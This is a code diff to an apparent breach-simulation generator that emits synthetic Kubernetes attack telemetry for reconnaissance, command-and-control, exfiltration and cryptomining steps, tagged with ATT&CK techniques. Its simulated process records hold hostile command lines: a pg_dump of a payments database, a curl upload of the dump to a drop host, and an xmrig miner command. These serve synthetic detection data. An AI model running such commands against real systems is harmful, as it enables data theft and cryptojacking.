@@ -322,8 +322,10 @@ class _Breach:
     # entries ---------------------------------------------------------------
     def recon(self) -> None:
         w = self.w
-        if w.platform == "self-managed":
-            return  # no VPC flow log sees a scan of the nodes
+        if w.platform in ("self-managed", "gke"):
+            # no flow log sees a refused scan of the nodes: self-managed clusters have none, and
+            # GCP VPC flow logs record no connection a firewall rule denied (that is Firewall Rules Logging)
+            return
         t0 = self.now()
         sid = w.step("recon", "Outside scan of the nodes", phase="Reconnaissance", tactic="Discovery", techniques=("MS-TA9031", "T1046"),
                      start=t0, end=t0 + dt.timedelta(minutes=4), source_ip=self.attacker)
@@ -802,7 +804,8 @@ class _Breach:
         label = src if isinstance(src, str) else f"{src.namespace}/{src.name}"
         ents: dict[str, Any] = {"destination_ip": self.c2}
         if isinstance(src, Pod):
-            ents.update(namespace=src.namespace, pod=src.name)
+            # translated to the node's address on the way out: a VPC flow log names only the node
+            ents.update(namespace=src.namespace, pod=src.name, node=src.node, node_ip=src.host_ip)
         else:
             ents.update(node=self.node)
         sid = w.step("c2", f"Command-and-control beacons from {label}", phase="Command & Control", tactic="Command and Control",
@@ -841,7 +844,7 @@ class _Breach:
         t = self.now(1)
         sid = w.step("exfiltration", "Database dumped and sent outside", phase="Actions on Objectives", tactic="Exfiltration",
                      techniques=("T1041", "T1048", "T1567", "MS-TA9034", "T1210", "MS-TA9007", "T1059"), start=t, end=t + dt.timedelta(minutes=4),
-                     namespace=src.namespace, pod=src.name, destination_ip=self.drop)
+                     namespace=src.namespace, pod=src.name, node=src.node, node_ip=src.host_ip, destination_ip=self.drop)
         w.process(t, src, "/usr/bin/pg_dump", f"-h {db.ip} -U app payments", step=sid)
         w.flow(t + dt.timedelta(seconds=1), src, db, 5432, step=sid, size=40_000)
         w.process(t + dt.timedelta(minutes=2), src, "/usr/bin/curl", f"-T /tmp/dump.sql https://{self.drop}/u", step=sid,
@@ -871,7 +874,8 @@ class _Breach:
         end = w.at(self.t + 12)
         workload = f"{origin[0] if origin[0] != 'Job' else 'CronJob'}/{origin[1]}" if origin else None
         sid = w.step("mining", "Cryptomining", phase="Actions on Objectives", tactic="Impact", techniques=("MS-TA9039", "T1496"), start=t, end=end,
-                     destination_ip=self.pool, namespace=miners[0].namespace, pod=miners[0].name, **({"workload": workload} if workload else {}))
+                     destination_ip=self.pool, namespace=miners[0].namespace, pod=miners[0].name, node_ips=sorted({p.host_ip for p in miners}),
+                     **({"workload": workload} if workload else {}))
         for p in miners:
             start = max(t, p.created + dt.timedelta(seconds=5))
             w.process(start, p, "/usr/local/bin/xmrig", f"-o stratum+tcp://{self.pool}:3333 --donate-level 1", parent="/usr/bin/containerd-shim", step=sid,
